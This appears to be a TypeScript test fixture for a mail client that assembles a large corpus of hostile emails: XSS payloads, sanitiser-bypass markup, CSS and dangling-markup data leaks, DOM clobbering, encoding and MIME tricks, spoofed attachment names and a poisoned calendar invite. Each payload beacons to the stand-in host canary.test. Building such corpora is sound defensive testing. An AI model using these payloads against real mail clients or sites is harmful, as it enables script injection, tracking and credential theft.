/**
 * Hostile mail, our own: every known way in which a message has run a script, loaded something, or left
 * its place in a mail program. `X` stands for a script that reports itself in every way there is.
 */
export const CANARY = 'https://canary.test';

/** Without double quotes, angle brackets and backslashes, so that it fits into every place below. */
export const script = (name: string): string => `(function(){var n='${name}';window.__xss=n;try{top.__xss=n}catch(e){}console.log('xss-'+n);new Image().src='${CANARY}/ran/'+n;alert(n)})()`;

export interface Hostile {
  readonly name: string;
  /** The whole message but From, To, Date and Message-ID; lines end in LF, bytes above 127 are latin1 of themselves. */
  readonly raw: string | Buffer;
}

const BODIES: Readonly<Record<string, string>> = {
  'script': '<script>X</script>',
  'script with type': '<script type="module">X</script>',
  'script from afar': `<script src="${CANARY}/x.js"></script>`,
  'script in capitals with a slash': '<SCRIPT/x>X</SCRIPT/x>',
  'script never closed': '<p>a</p><script>X',
  'script split by a script': '<scr<script>ipt>X</scr</script>ipt>',
  'script with a NUL': '<scr\u0000ipt>X</scr\u0000ipt>',
  'script after a stray bracket': '<<script>X//<</script>',
  'script in full width': '＜script＞X＜/script＞',
  'script in text area': '<textarea></textarea><script>X</script>',
  'script in title': '<title><img src="</title><script>X</script>">',
  'script in xmp': '<xmp><p title="</xmp><script>X</script>">',
  'image error': '<img src=x onerror="X">',
  'image error without spaces': '<img/src=x/onerror="X"/>',
  'image error with a tab in its name': '<img src=x onerror\t=\n"X">',
  'image error in backticks': '<img src=`x`onerror="X">',
  'image error by a form feed': '<img\u000csrc=x\u000conerror="X">',
  'image error after a broken attribute': '<img """><img src=x onerror="X">">',
  'image error in capitals': '<IMG SRC=x ONERROR="X">',
  'image with a script address': '<img src="javascript:X"><img dynsrc="javascript:X"><img lowsrc="javascript:X">',
  'image set': `<picture><source srcset="${CANARY}/set.png"><img srcset="${CANARY}/a.png 1x" src=x onerror="X"></picture>`,
  'image of SVG': `<img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='X'/>">`,
  'old image tag': '<image src=x onerror="X">',
  'svg load': '<svg onload="X"></svg>',
  'svg script': '<svg><script>X</script></svg>',
  'svg script by address': '<svg><script href="data:text/javascript,X"></script><script xlink:href="data:text/javascript,X"></script></svg>',
  'svg animation of an address': '<svg><a><animate attributeName="href" values="javascript:X"/><text x="20" y="20">click</text></a></svg>',
  'svg set': '<svg><set attributeName="onload" to="X"/><animate onbegin="X" attributeName="x" dur="1s"/></svg>',
  'svg use': `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>`,
  'svg foreign object': '<svg><foreignObject><iframe srcdoc="<script>X</script>"></iframe><body onload="X"></foreignObject></svg>',
  'svg style with an element inside': '<svg></p><style><a id="</style><img src=1 onerror=X>">',
  'math': '<math><mtext><img src=x onerror="X"></mtext></math>',
  'math link': '<math href="javascript:X">click</math><math><mi xlink:href="javascript:X">click</mi></math>',
  'math against table and style': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>',
  'math against annotation': '<math><annotation-xml encoding="text/html"><style><img src=x onerror="X"></style></annotation-xml></math>',
  'math against comment': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">',
  'noscript': '<noscript><p title="</noscript><img src=x onerror=X>"></noscript>',
  'noembed and noframes': '<noembed><img title="</noembed><img src onerror=X>"></noembed><noframes><img title="</noframes><img src onerror=X>"></noframes>',
  'template': '<template><script>X</script><img src=x onerror="X"></template>',
  'declared shadow root': '<div><template shadowrootmode="open"><img src=x onerror="X"></template></div>',
  'comment ended early': '<!--><img src=x onerror="X">--><!--!><img src=x onerror="X">--!><img src=x onerror="X">-->',
  'conditional comment': '<!--[if gte IE 4]><script>X</script><![endif]--><![if !IE]><img src=x onerror="X"><![endif]>',
  'CDATA': '<svg><![CDATA[><img src=x onerror="X">]]></svg><![CDATA[<script>X</script>]]>',
  'processing instruction': '<?xml-stylesheet href="javascript:X"?><? foo="><script>X</script>">',
  'link': '<a href="javascript:X">click</a>',
  'link with a tab and an entity': '<a href="java\tscript:X">click</a> <a href="&#106;avascript&colon;X">click</a> <a href="java&NewLine;script:X">click</a>',
  'link with control characters': '<a href="\u0001javascript:X">click</a><a href=" \u000e javascript:X">click</a>',
  'link of data': `<a href="data:text/html,<script>X</script>">click</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  'link of other schemes': '<a href="vbscript:X">click</a><a href="blob:null/x">click</a><a href="filesystem:x">click</a><a href="ms-msdt:/id">click</a><a href="view-source:x">click</a>',
  'link that pings': `<a href="https://a.test/" ping="${CANARY}/ping">click</a>`,
  'link that keeps its opener': `<a href="${CANARY}/opener" target="_top" rel="opener">click</a><a href="${CANARY}/opener" target="_parent">click</a>`,
  'frame': `<iframe src="javascript:X"></iframe><iframe src="${CANARY}/frame"></iframe>`,
  'frame with its document': '<iframe srcdoc="<script>X</script>"></iframe><iframe srcdoc="&lt;img src=x onerror=X&gt;"></iframe>',
  'frame set': '<frameset onload="X"><frame src="javascript:X"></frameset>',
  'object and embed': `<object data="javascript:X"></object><embed src="javascript:X"><object data="${CANARY}/o.svg" type="image/svg+xml"></object><applet code="x"></applet>`,
  'object with parameters': '<object classid="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><param name="dataurl" value="javascript:X"></object>',
  'form': `<form action="javascript:X"><button>go</button></form><form action="${CANARY}/form"><input name="password"><input type="submit"></form>`,
  'form by a button': '<form id="f"></form><button form="f" formaction="javascript:X">go</button><input type="image" formaction="javascript:X">',
  'autofocus': '<input autofocus onfocus="X"><select autofocus onfocus="X"><textarea autofocus onfocus="X"></textarea><p tabindex=1 autofocus onfocus="X">',
  'details': '<details open ontoggle="X"><summary>a</summary></details>',
  'dialogs and popovers': '<dialog open onclose="X"><form method="dialog"><button autofocus></button></form></dialog><p popover id="p" onbeforetoggle="X"></p><button popovertarget="p">a</button>',
  'media': '<video><source onerror="X"></video><audio src=x onerror="X"></audio><video autoplay onloadstart="X"><source src=x></video>',
  'marquee and animation': '<marquee onstart="X">a</marquee><style>@keyframes k{}</style><p style="animation-name:k" onanimationstart="X">a</p><p onpointerrawupdate="X" onmouseover="X">a</p>',
  'body with handlers': '<body onload="X" onpageshow="X" onresize="X" background="javascript:X">',
  'content visibility': '<p style="content-visibility:auto" oncontentvisibilityautostatechange="X">a</p>',
  'refresh': `<meta http-equiv="refresh" content="0;url=javascript:X"><meta http-equiv="refresh" content="0;url=${CANARY}/refresh">`,
  'policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>X</script>`,
  'base': `<base href="${CANARY}/"><img src="base.png"><script src="x.js"></script><a href="relative">click</a>`,
  'link elements': ['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'modulepreload', 'import', 'icon', 'manifest'].map((rel) => `<link rel="${rel}" href="${CANARY}/link-${rel}" as="script">`).join(''),
  'style with imports': `<style>@import "${CANARY}/import.css"; @font-face{font-family:f;src:url(${CANARY}/font)} *{background:url(${CANARY}/bg);font-family:f;list-style-image:url(${CANARY}/li)}</style>`,
  'style that reads': `<style>input[value^="a"]{background:url(${CANARY}/leak-a)} a[href*="token"]{background:url(${CANARY}/leak-token)}</style>`,
  'style with expressions': '<p style="width:expression(X);behavior:url(x.htc);-moz-binding:url(x.xml#x)">a</p><p style="background:url(javascript:X)">a</p>',
  'style with escapes': `<p style="background:u\\72l(${CANARY}/escaped);background-image:\\75\\72\\6c(${CANARY}/e2);color:image-set('${CANARY}/is' 1x)">a</p><p style="--x:url(${CANARY}/var);background:var(--x)">a</p>`,
  'style over the page': '<p style="position:fixed;inset:0;z-index:99999;background:white">Sign in again</p><p style="position:absolute;margin-top:-500px">over</p>',
  'background attributes': `<table background="${CANARY}/table.png"><td background="${CANARY}/td.png">a</td></table><p style='background-image:url("${CANARY}/p.png")'>a</p>`,
  'remote images': `<img src="${CANARY}/pixel.gif" width=1 height=1><img src="//canary.test/relative.gif"><img src="http://canary.test/plain.gif">`,
  'dangling markup': `<img src='${CANARY}/dangling?`,
  'dangling link': `<a href="${CANARY}/dangling?x=`,
  'clobbering': '<form id="document"><input name="cookie"><input name="body"></form><img name="getElementById"><a id="config"></a><a id="config" name="url" href="javascript:X"></a><iframe name="parent"></iframe>',
  'clobbering of the page\'s own ids': '<div id="root">fake</div><div id="sundial-config">{"publicUrl":"https://canary.test"}</div><meta name="sundial-config">',
  'attribute breakout': '<p title="a" b=\'"><img src=x onerror="X">\'>a</p><p title=\'"><img src=x onerror="X">\'>a</p><a href=\'https://a.test/"onmouseover="X\'>a</a>',
  'end of our own page': '</body></html><script>X</script><html><body onload="X">',
  'end of a srcdoc': '"><script>X</script><iframe srcdoc="',
  'table that moves its children': '<table><img src=x onerror="X"><tr><td><p><script>X</script></table>',
  'select that swallows': '<select><option><style></option></select><img src=x onerror=X></style>',
  'cid': '<img src="cid:part1"><a href="cid:part1">click</a><iframe src="cid:part1"></iframe>',
  'template fields': '<p>{{name}} {{firstName}} {{constructor}} {{__proto__}} {{"><script>X</script>}} ${X} #{X} <%= X %> {{7*7}}</p>',
  'depth': `${'<div>'.repeat(600)}<img src=x onerror="X">${'</div>'.repeat(600)}`,
  'many attributes': `<p ${Array.from({ length: 300 }, (_, i) => `a${i}=1`).join(' ')} onclick="X" onmouseover="X">a</p>`,
};

const html = (name: string): string => `<p>harmless words</p>${BODIES[name]!.replaceAll('X', script(slug(name)))}`;
const slug = (name: string): string => name.replace(/\W+/g, '-');

const asBase64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64').replace(/.{76}/g, '$&\n');
const part = (type: string, body: string, encoding = 'base64'): string => `Content-Type: ${type}\nContent-Transfer-Encoding: ${encoding}\n\n${encoding === 'base64' ? asBase64(body) : body}\n`;
const multipart = (kind: string, ...parts: string[]): string => `MIME-Version: 1.0\nContent-Type: multipart/${kind}; boundary="b-1"\n\n${parts.map((p) => `--b-1\n${p}`).join('')}--b-1--\n`;
const subject = (name: string): string => `Subject: ${name}\n`;
const img = (name: string): string => `<p>harmless words</p><img src=x onerror="${script(slug(name))}">`;

/** What comes in by encodings, parts and headers rather than by the body's own markup. */
const WHOLE: Readonly<Record<string, (name: string) => string | Buffer>> = {
  'utf-7 by its header': (n) => `MIME-Version: 1.0\nContent-Type: text/html; charset=utf-7\n\n+ADw-p+AD4-harmless words+ADw-/p+AD4-+ADw-script+AD4-${script(slug(n))}+ADw-/script+AD4-\n`,
  'utf-7 by its meta': (n) => `MIME-Version: 1.0\nContent-Type: text/html\n\n<meta charset="utf-7"><p>harmless words</p>+ADw-img src+AD0-x onerror+AD0-+ACI-${script(slug(n))}+ACI-+AD4-\n`,
  'utf-16 with a mark': (n) => `MIME-Version: 1.0\n${part('text/html; charset=utf-16le', '').trimEnd()}\n\n${Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(img(n), 'utf16le')]).toString('base64').replace(/.{76}/g, '$&\n')}\n`,
  'a mark of utf-8 before latin1': (n) => `MIME-Version: 1.0\n${part('text/html; charset=iso-8859-1', `\ufeff${img(n)}`)}`,
  'iso-2022-jp that hides a quote': (n) => `MIME-Version: 1.0\nContent-Type: text/html; charset=iso-2022-jp\n\n<p>harmless words</p><img alt="\u001b$B" src=x><p title="\u001b(B onerror=${script(slug(n))} ">a</p>\n`,
  'a charset that is none': (n) => `MIME-Version: 1.0\n${part('text/html; charset="x-user-defined\\"><script>"', img(n))}`,
  'quoted-printable in quoted-printable': (n) => `MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n<p>harmless words</p>=3Cimg src=3D=3Dx onerror=3D"${script(slug(n)).replaceAll('=', '=3D')}"=3E=\n=3D3Cscript=3D3E\n`,
  'quoted-printable that splits a tag': (n) => `MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n<p>harmless words</p><im=\ng src=3Dx onerr=\nor=3D"${script(slug(n)).replaceAll('=', '=3D')}">\n`,
  'text that is HTML': (n) => `MIME-Version: 1.0\n${part('text/plain; charset=utf-8', img(n))}`,
  'xhtml': (n) => `MIME-Version: 1.0\n${part('application/xhtml+xml; charset=utf-8', `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script(slug(n))}</script></body></html>`)}`,
  'svg as the message': (n) => `MIME-Version: 1.0\n${part('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(slug(n))}"/>`)}`,
  'a message in a message': (n) => multipart('mixed', part('text/html; charset=utf-8', '<p>harmless words</p>'), `Content-Type: message/rfc822\n\nSubject: <script>${script(slug(n))}</script>\nContent-Type: text/html\n\n${img(n)}\n\n`),
  'a related picture with a script': (n) => multipart('related', part('text/html; charset=utf-8', `<p>harmless words</p><img src="cid:part1"><iframe src="cid:part1"></iframe>`), `Content-ID: <part1>\n${part(`image/svg+xml; name="a.svg"`, `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(slug(n))}"><script>${script(slug(n))}</script></svg>`)}`),
  'attachments by their names': (n) => multipart('mixed', part('text/html; charset=utf-8', '<p>harmless words</p>'), ...['<img src=x onerror=X>.txt', '"><script>X</script>.html', '../../<svg onload=X>.svg', 'a\u202Efdp.exe'].map((name) => {
    const named = name.replaceAll('X', script(slug(n)));
    return `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(named)}; filename="=?utf-8?B?${Buffer.from(named).toString('base64')}?="\n${part('text/html', img(n))}`;
  })),
  'an invitation': (n) => multipart('alternative', part('text/html; charset=utf-8', '<p>harmless words</p>'), part('text/calendar; method=REQUEST; charset=utf-8', [
    'BEGIN:VCALENDAR', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', 'UID:xss-1', 'DTSTAMP:20261121T100000Z', 'DTSTART:20261201T100000Z', 'DTEND:20261201T110000Z',
    `SUMMARY:<img src=x onerror="${script(slug(n))}">`, `LOCATION:javascript:${script(slug(n))}`, `DESCRIPTION:<script>${script(slug(n))}</script>`, `X-ALT-DESC;FMTTYPE=text/html:<img src=x onerror="${script(slug(n))}">`,
    `URL:javascript:${script(slug(n))}`, `ORGANIZER;CN="<svg onload=${script(slug(n))}>":mailto:a@b.test`, 'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n'))),
  'headers of another message': (n) => `MIME-Version: 1.0\nX-Mailer: <script>${script(slug(n))}</script>\nReply-To: "<img src=x onerror=${script(slug(n)).replaceAll("'", '`')}>" <a@b.test>\nList-Unsubscribe: <javascript:${script(slug(n))}>\nThread-Topic: <svg onload=1>\n${part('text/html; charset=utf-8', '<p>harmless words</p>')}`,
};

export const CORPUS: readonly Hostile[] = [
  ...Object.keys(BODIES).map((name) => ({ name, raw: `${subject(name)}MIME-Version: 1.0\n${part('text/html; charset=utf-8', html(name))}` })),
  ...Object.keys(WHOLE).map((name) => ({ name, raw: `${subject(name)}${WHOLE[name]!(name)}` })),
];

/** Texts for places that show one line of somebody else's: subjects, names, templates, booking answers, parameters. */
export const hostileTexts = (place: string): string[] => [
  '<img src=x onerror="X">', '"><svg onload="X">', '\'><script>X</script>', '</title><script>X</script>', '</textarea></script><script>X</script>', 'javascript:X', '{{constructor.constructor("X")()}}', '<a href="javascript:X">a</a>', '`${X}`', '--><img src=x onerror="X">', '&lt;img src=x onerror=X&gt;', '\u202e<b onclick=X>',
].map((text) => text.replaceAll('X', script(`${place}`)));

/** All bodies in one, for a template or a follow-up step. */
export const wholeBody = (place: string): string => `<p>harmless words</p>${Object.values(BODIES).filter((body) => !/dangling|never closed|600/.test(body)).filter((body) => !body.startsWith('<frameset') && body.length < 3000).map((body) => body.replaceAll('X', script(place)).replaceAll('\u0000', '').replaceAll('{{__proto__}}', '')).join('\n')}`;
